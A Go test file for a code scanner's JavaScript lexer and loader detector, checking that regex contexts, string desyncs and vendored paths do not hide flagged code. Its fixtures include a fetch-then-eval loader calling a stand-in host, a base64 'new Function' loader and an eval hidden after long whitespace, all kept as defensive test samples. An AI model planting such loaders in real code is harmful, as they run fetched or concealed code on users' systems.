package scan

import (
	"strings"
	"testing"
)

// jsLoader is a one-line network loader the flow detector reports
// (JS-EXEC-FETCHED) when the lexer reads it in step.
const jsLoader = `https.get("https://api.example.invalid/v2/init", (res) => { let body = ""; res.on("data", (c) => { body += c; }); res.on("end", () => { eval(body); }); }); const q = "/";`

// TestJSLexRegexContext: a slash after the ')' of an if/while/for/with
// head, after the '}' of a block and after keywords starts a regex
// literal; after an expression's ')', ']', '}' or a value it is a
// division. A quote inside a misread regex must not swallow the code
// after it, and a string that does not end on its line is read again as
// code so that one misreading cannot hide the rest of a line.
func TestJSLexRegexContext(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, prefix string
		regex        bool // the /"/ after the prefix is a regex literal
	}{
		{"if head", `if (true) /"/.test("x"); `, true},
		{"if nested parens", `if (f(a, (b))) /"/.test("x"); `, true},
		{"while head", `while (false) /"/.test("x"); `, true},
		{"for head", `for (;false;) /"/.test("x"); `, true},
		{"with head", `with (o) /"/.test("x"); `, true},
		{"function body", `function f() {} /"/.test("x"); `, true},
		{"label block", `label: { } /"/.test("x"); `, true},
		{"block in block", `{ if (a) { b() } /"/.test("x") } `, true},
		{"else block", `if (a) {} else {} /"/.test("x"); `, true},
		{"arrow body then", "const f = () => { }\n/\"/.test(\"x\"); ", true},
		{"typeof", `typeof /"/; `, true},
		{"return", `function g() { return /"/.test("x") } `, true},
		{"call paren", `const n = f(x) /"/; `, false},
		{"member if", `o.if(x) /2/ 3; `, false},
		{"index", `const n = a[0] /"/; `, false},
		{"object literal", `const o = {a: 1} /"/; `, false},
		{"object in call", `f({a: {}} /"/); `, false},
		{"number", `const n = 4 /"/; `, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			src := []byte(tc.prefix)
			buf := jsLex(src, 1<<16)
			defer buf.release()
			slash := strings.Index(tc.prefix, `/"/`)
			var at jsTok
			for _, tok := range buf.toks {
				if tok.off == slash {
					at = tok
				}
			}
			if got := at.kind == 's' && at.text == ""; got != tc.regex {
				t.Errorf("regex at %d = %v, want %v (token %+v)", slash, got, tc.regex, at)
			}
		})
	}
}

// TestJSFlowAfterRegexPrefix: a loader after a regex literal in a regex
// context (the reviewer's prefixes, all valid JavaScript) is still found,
// and a desync (a quote taken for a string that runs to the end of the
// line) does not hide the rest of the line.
func TestJSFlowAfterRegexPrefix(t *testing.T) {
	t.Parallel()
	for _, prefix := range []string{
		`if (true) /"/.test("x"); `,
		`function f() {} /"/.test("x"); `,
		`while (false) /"/.test("x"); `,
		`for (;false;) /"/.test("x"); `,
		`label: { } /"/.test("x"); `,
		`if (a) { } else /"/.test("x"); `,
		`do /'/.test("x"); while (0); `,
		"`${a}` ; if (b) /`/.test(c); ",
		// Not JavaScript, but what a misreading looks like: the string
		// opened by ' never ends on its line, so the line is read again.
		`const o = {} /'/; `,
		`x = y ) /'/; `,
	} {
		src := "const https = require(\"https\");\n" + prefix + jsLoader + "\n"
		got := JSFlowDetector{}.Detect(&File{Path: "index.js", Data: []byte(src)})
		var ids []string
		for _, f := range got {
			ids = append(ids, f.Rule)
		}
		if !strings.Contains(strings.Join(ids, " "), "JS-EXEC-FETCHED") {
			t.Errorf("prefix %q: want JS-EXEC-FETCHED, got %v", prefix, ids)
		}
	}
}

// TestJSLexStringContinuation: a string continued over a CRLF line end
// is one string (the resynchronisation does not split it).
func TestJSLexStringContinuation(t *testing.T) {
	t.Parallel()
	buf := jsLex([]byte("const s = 'a\\\r\nb'; eval(s)"), 100)
	defer buf.release()
	var strs []string
	for _, tok := range buf.toks {
		if tok.kind == 's' {
			strs = append(strs, tok.text)
		}
	}
	if len(strs) != 1 || strs[0] != "ab" {
		t.Errorf("strings %q, want [\"ab\"]", strs)
	}
}

// TestVendoredLoaderNotDowngraded: decoded code run, or a padded line that
// evaluates, in node_modules/, dist/ or a *.min.js file is high as
// anywhere else (an untrusted repository chooses where its files are);
// only the noise detectors (encoded blobs, padding without a sink) are
// capped there.
func TestVendoredLoaderNotDowngraded(t *testing.T) {
	t.Parallel()
	loader := "var s = 'Y29uc29sZS5sb2coMSk=';\nnew Function(Buffer.from(s, 'base64').toString())();\n"
	padded := "var a = 1;" + strings.Repeat(" ", 300) + "eval(payload);\n"
	quiet := "var a = 1;" + strings.Repeat(" ", 300) + "var b = 2;\n"
	for _, p := range []string{"node_modules/express/lib/express.js", "dist/app.js", "public/app.min.js", "src/index.js"} {
		if got := (JSFlowDetector{}).Detect(&File{Path: p, Data: []byte(loader)}); len(got) == 0 || got[0].Rule != "JS-EXEC-DECODED" || got[0].Severity != SeverityHigh {
			t.Errorf("%s: loader: got %+v, want JS-EXEC-DECODED high", p, got)
		}
		d := HiddenCodeDetector{}
		if got := d.Detect(&File{Path: p, Data: []byte(padded)}); len(got) == 0 || got[0].Severity != SeverityHigh {
			t.Errorf("%s: padded eval: got %+v, want HIDDEN-AFTER-WHITESPACE high", p, got)
		}
		want := SeverityMedium
		if got := d.Detect(&File{Path: p, Data: []byte(quiet)}); len(got) == 0 || isVendored(p) && got[0].Severity != want {
			t.Errorf("%s: padded code: got %+v, want HIDDEN-AFTER-WHITESPACE %s", p, got, want)
		}
	}
}
